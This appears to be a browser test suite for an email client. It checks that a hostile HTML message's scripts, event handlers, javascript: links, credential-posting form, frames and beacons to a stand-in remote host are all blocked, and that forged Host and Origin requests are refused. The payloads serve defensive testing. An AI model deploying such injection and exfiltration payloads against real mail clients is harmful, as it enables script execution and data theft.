// Hostile mail in the real window, and the host's door. A scripted POP3 server serves one
// message built to run code, navigate, submit, embed and phone home in every way HTML allows;
// a local HTTP server plays the "remote" host it points at and logs every request. `poplar
// serve` downloads it, Chromium opens it, and:
//   - nothing in it runs: a script would post a message to the window, retitle it, or
//     navigate its frame to the remote host (all watched);
//   - nothing reaches the remote host until the user clicks "Load for this message"; after
//     that its images arrive, and still no script, style sheet, frame or form does.
// Then raw HTTP and WebSocket requests: without the token, with a wrong one, with a foreign
// Host or Origin, the host answers nothing that holds data.
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { MessageSummaryView, MessageView } from '../shared/contract.ts';
import type { ChromiumSession } from './support/chromium.ts';
import { httpProbe, upgradeStatus } from './support/http-probe.ts';
import { connectApi, type ServeProcess } from './support/poplar-serve.ts';
import { CHROMIUM, describeWith } from './support/requirements.ts';
import { startScriptedPop3, type ScriptedPop3Server } from './support/scripted-pop3.ts';
import { countIs, visible } from './support/window.ts';
import { scriptedAccount, TestWindow } from './support/window-account.ts';
import { seconds } from './support/timeouts.ts';

const PASSWORD = 'Hostile-Pw-4';
const SUBJECT = 'Quarterly numbers (hostile)';
const MARKER = 'ocelot-hostile-marker';
const ATTACHMENT = 'Plain notes, nothing hostile.';

/** Every trick, each aimed at its own path on the remote host so the log says which one fired. */
function hostileHtml(remote: string): string {
  const beacon = (name: string): string => `${remote}/beacon/${name}`;
  const ran = (name: string): string =>
    `parent.postMessage('${name}','*');top.document.title='pwned-${name}';location.href='${beacon(name)}'`;
  return `<html><head>
<meta http-equiv="refresh" content="0;url=${remote}/refresh">
<link rel="stylesheet" href="${remote}/sheet.css">
<style>@import url("${remote}/import.css"); .hero { background: url(${remote}/hero-bg.png) }</style>
<script>${ran('script')}</script>
<script src="${remote}/external.js"></script>
</head><body onload="${ran('body-onload')}">
<h1>Quarterly numbers</h1>
<p>The figures are below. <b>${MARKER}</b></p>
<div class="hero">hero</div>
<div style="background:url(${remote}/div-bg.png)">inline background</div>
<img src="${remote}/pixel.gif" alt="pixel" width="1" height="1">
<img src="data:," onerror="${ran('img-onerror')}" alt="broken">
<p><a href="javascript:${ran('js-link')}">Claim your prize</a> or read <a href="https://example.org/report">the report</a>.</p>
<form action="${remote}/steal" method="post"><input name="password" value="secret"><button type="submit">Send</button></form>
<iframe src="${remote}/frame" onload="${ran('iframe-onload')}"></iframe>
<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="${ran('svg-onload')}">
<script>${ran('svg-script')}</script>
<image href="${remote}/svg-image.png" width="10" height="10"/>
<foreignObject width="40" height="40"><iframe src="${remote}/fo-frame"></iframe><img src="${remote}/fo-img.png" onerror="${ran('fo-onerror')}"/></foreignObject>
</svg>
<object data="${remote}/object"></object><embed src="${remote}/embed">
</body></html>`;
}

function hostileMessage(remote: string): string {
  const html = hostileHtml(remote);
  return [
    'From: Mallory <mallory@example.org>',
    'To: Alice <alice@example.net>',
    `Subject: ${SUBJECT}`,
    'Date: Mon, 05 Jan 2026 10:00:00 +0000',
    'Message-ID: <hostile.1@test.poplar.invalid>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="hostile-b"',
    '',
    '--hostile-b',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    (
      Buffer.from(html, 'utf8')
        .toString('base64')
        .match(/.{1,76}/g) ?? []
    ).join('\r\n'),
    '--hostile-b',
    'Content-Type: text/plain; charset=utf-8',
    'Content-Disposition: attachment; filename="notes.txt"',
    '',
    ATTACHMENT,
    '--hostile-b--',
    '',
  ].join('\r\n');
}

/** What the remote host may serve once remote content is allowed: images, and nothing else. */
const IMAGES = ['/pixel.gif', '/div-bg.png', '/hero-bg.png', '/svg-image.png'];
/** What must never be requested: scripts and their beacons, style sheets, frames, forms, refresh, plugins. */
const NEVER = /^\/(beacon\/|external\.js|sheet\.css|import\.css|frame|fo-frame|steal|refresh|object|embed)/;

const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d4948445200000001000000010806000000' +
    '1f15c4890000000d49444154789c6360f8cfc0f01f0005000201e2dd6b620000000049454e44ae426082',
  'hex',
);

interface Reply {
  status: number;
  headers: IncomingHttpHeaders;
  body: string;
}

describeWith(CHROMIUM, 'hostile mail in the window, and the host’s door', () => {
  const win = new TestWindow('poplar-window-security-');
  let pop3: ScriptedPop3Server;
  let remoteServer: Server;
  let REMOTE = '';
  const remote: string[] = [];
  let serve: ServeProcess;
  let browser: ChromiumSession;
  let page: Page;
  const posted: string[] = [];
  let title = '';

  beforeAll(async () => {
    remoteServer = createServer((req, res) => {
      remote.push(new URL(req.url ?? '/', 'http://x').pathname);
      if (/\.(png|gif)$/.test(req.url ?? '')) res.writeHead(200, { 'content-type': 'image/png' }).end(PNG);
      else res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>remote</title><p>remote</p>');
    });
    await new Promise<void>((resolve) => remoteServer.listen(0, '127.0.0.1', resolve));
    REMOTE = `http://127.0.0.1:${(remoteServer.address() as AddressInfo).port}`;
    pop3 = await startScriptedPop3({
      users: [{ name: 'alice', password: PASSWORD }],
      messages: [{ uidl: 'hostile-1', body: hostileMessage(REMOTE) }],
    });

    ({ serve, browser, page } = await win.open({
      account: scriptedAccount(pop3, 'Alice', 'alice', PASSWORD),
      beforeGoto: async (page) => {
        await page.exposeFunction('poplarTestPosted', (data: string) => void posted.push(data));
      },
    }));
    // Anything a script in the mail frame posts to the window lands here.
    await page.evaluate(() =>
      window.addEventListener(
        'message',
        (e) => void (window as unknown as { poplarTestPosted(d: string): void }).poplarTestPosted(String(e.data)),
      ),
    );
    title = await page.title();
  });

  afterAll(async () => {
    const code = await win.close(
      async () => pop3?.close(),
      () => new Promise<void>((resolve) => (remoteServer ? remoteServer.close(() => resolve()) : resolve())),
    );
    expect(code).toBe(0);
  });

  /** The mail frame's document, once its load event fired: every image, style sheet and frame it started has answered. */
  async function loadedMailFrame(): Promise<Frame> {
    const handle = await page.locator('iframe.html-frame').elementHandle();
    const frame = await handle?.contentFrame();
    if (!frame) throw new Error('the reading pane has no mail frame');
    await frame.waitForLoadState('load');
    return frame;
  }

  it('has working detectors: a frame allowed to script does reach them', async () => {
    const probe = await browser.context.newPage();
    const seen: string[] = [];
    await probe.exposeFunction('probePosted', (data: string) => void seen.push(data));
    await probe.setContent('<body></body>');
    await probe.evaluate(() =>
      window.addEventListener('message', (e) => void (window as unknown as { probePosted(d: string): void }).probePosted(String(e.data))),
    );
    await probe.evaluate((doc) => {
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts');
      frame.srcdoc = doc;
      document.body.append(frame);
    }, `<script>parent.postMessage('script','*');location.href='${REMOTE}/beacon/probe'</script>`);
    await expect.poll(() => seen, { timeout: seconds(10) }).toContain('script');
    await expect.poll(() => remote, { timeout: seconds(10) }).toContain('/beacon/probe');
    await probe.close();
    remote.length = 0;
  });

  it('shows the hostile message with nothing run and nothing fetched from the remote host', async () => {
    const row = page
      .getByRole('listbox', { name: /^Messages in / })
      .getByRole('option')
      .filter({ hasText: SUBJECT });
    await visible(row, seconds(20));
    await row.click();
    const frame = page.locator('iframe.html-frame');
    await visible(frame);
    expect(await frame.getAttribute('sandbox')).toBe('');
    await visible(page.frameLocator('iframe.html-frame').getByText(MARKER));
    await loadedMailFrame();

    await visible(page.getByRole('status').filter({ hasText: /Remote content was blocked \(\d+ items\)/ }));
    // The javascript: link is not offered; the real one is, behind a confirmation.
    await page.getByRole('button', { name: /links? in this message/ }).click();
    const links = page.locator('.link-items li');
    await countIs(links, 1);
    expect(await links.textContent()).toContain('https://example.org/report');
    // Clicking the would-be script link inside the frame does nothing either.
    await page.frameLocator('iframe.html-frame').getByText('Claim your prize').click();
    await loadedMailFrame();

    expect(remote).toEqual([]);
    expect(posted).toEqual([]);
    expect(await page.title()).toBe(title);
  });

  it('loads the remote images once the user allows them, and still runs and embeds nothing', async () => {
    await page.getByRole('button', { name: 'Load for this message' }).click();
    await expect
      .poll(() => [...new Set(remote)].filter((p) => IMAGES.includes(p)).sort(), { timeout: seconds(10) })
      .toEqual([...IMAGES].sort());
    const frame = await loadedMailFrame();
    await visible(page.frameLocator('iframe.html-frame').getByText(MARKER));
    expect(frame.url()).toBe('about:srcdoc'); // not navigated anywhere
    expect(remote.filter((p) => NEVER.test(p))).toEqual([]);
    expect(
      remote.every((p) => /\.(png|gif)$/.test(p)),
      remote.join(', '),
    ).toBe(true);
    expect(posted).toEqual([]);
    expect(await page.title()).toBe(title);
    await visible(page.getByRole('heading', { level: 1, name: SUBJECT }));
  });

  const get = async (pathname: string, headers: Record<string, string> = {}, method = 'GET'): Promise<Reply> => {
    const reply = await httpProbe(serve.port, pathname, headers, method);
    return { ...reply, body: reply.body.toString('utf8') };
  };

  /** The status of a WebSocket handshake: 101 when accepted. */
  const upgrade = (pathname: string, headers: Record<string, string>): Promise<number> => upgradeStatus(serve.port, pathname, headers);

  /** The hostile message's attachment route, found over the real WebSocket as the window finds it. */
  async function attachmentPath(): Promise<string> {
    const api = await connectApi(serve);
    try {
      const listed = await api.value<{ items: MessageSummaryView[] }>('messages.page', {
        accountId: null,
        folder: 'inbox',
        offset: 0,
        limit: 10,
      });
      const message = listed.items.find((m) => m.subject === SUBJECT);
      if (!message) throw new Error('the hostile message is not listed');
      const full = await api.value<MessageView>('messages.get', message.id);
      const attachment = full.attachments.find((a) => a.filename === 'notes.txt');
      if (!attachment) throw new Error('the hostile message has no notes.txt');
      return `/attachments/${message.id}/${attachment.id}`;
    } finally {
      api.close();
    }
  }

  it('serves an attachment only with the token, to its own Host', async () => {
    const route = await attachmentPath();
    const ok = await get(`${route}?token=${serve.token}`);
    expect(ok.status).toBe(200);
    expect(ok.body).toBe(ATTACHMENT);

    expect((await get(route)).status).toBe(401);
    expect((await get(`${route}?token=`)).status).toBe(401);
    expect((await get(`${route}?token=${serve.token.slice(0, -1)}x`)).status).toBe(403);
    expect((await get(`${route}?token=${'A'.repeat(43)}`)).status).toBe(403);
    for (const host of ['evil.example', `evil.example:${serve.port}`, `127.0.0.1:${serve.port + 1}`, '127.0.0.1']) {
      const refused = await get(`${route}?token=${serve.token}`, { host });
      expect(refused.status, host).toBe(403);
      expect(refused.body).not.toContain(ATTACHMENT);
    }
    // A foreign origin may not send anything but a GET, whatever it carries.
    expect((await get(`${route}?token=${serve.token}`, { origin: 'http://evil.example' }, 'POST')).status).toBe(403);
    expect((await get(`/parts/1/x?token=${serve.token}`, { host: 'evil.example' })).status).toBe(403);
    expect((await get('/parts/1/x')).status).toBe(401);
  });

  it('opens the WebSocket only with the token, to its own Host, from its own Origin', async () => {
    const own = { origin: serve.origin };
    const ws = `/ws?token=${serve.token}`;
    expect(await upgrade(ws, own)).toBe(101);
    expect(await upgrade('/ws', own)).toBe(401);
    expect(await upgrade('/ws?token=', own)).toBe(401);
    expect(await upgrade(`/ws?token=${serve.token.slice(0, -1)}x`, own)).toBe(403);
    expect(await upgrade(ws, {})).toBe(403); // no Origin: every browser sends one
    expect(await upgrade(ws, { origin: 'http://evil.example' })).toBe(403);
    expect(await upgrade(ws, { origin: REMOTE })).toBe(403); // another page on this very computer
    expect(await upgrade(ws, { origin: 'null' })).toBe(403); // a sandboxed frame, such as the mail frame itself
    expect(await upgrade(ws, { ...own, host: 'evil.example' })).toBe(403);
    expect(await upgrade(ws, { ...own, host: `evil.example:${serve.port}` })).toBe(403);
  });

  it('lets a hostile page’s script reach neither the API nor an attachment', async () => {
    // A page on another local port (the "remote" host) tries both with the right token even.
    const attacker = await browser.context.newPage();
    await attacker.goto(`${REMOTE}/attacker`);
    const route = await attachmentPath();
    const outcome = await attacker.evaluate(
      async ({ port, token, route: r }) => {
        const ws = await new Promise<string>((resolve) => {
          const socket = new WebSocket(`ws://127.0.0.1:${port}/ws?token=${token}`);
          socket.onopen = () => resolve('open');
          socket.onerror = () => resolve('refused');
        });
        const read = await fetch(`http://127.0.0.1:${port}${r}?token=${token}`)
          .then((res) => res.text())
          .then(
            () => 'read',
            () => 'blocked',
          );
        return { ws, read };
      },
      { port: serve.port, token: serve.token, route },
    );
    expect(outcome).toEqual({ ws: 'refused', read: 'blocked' });
    await attacker.close();
  });
});
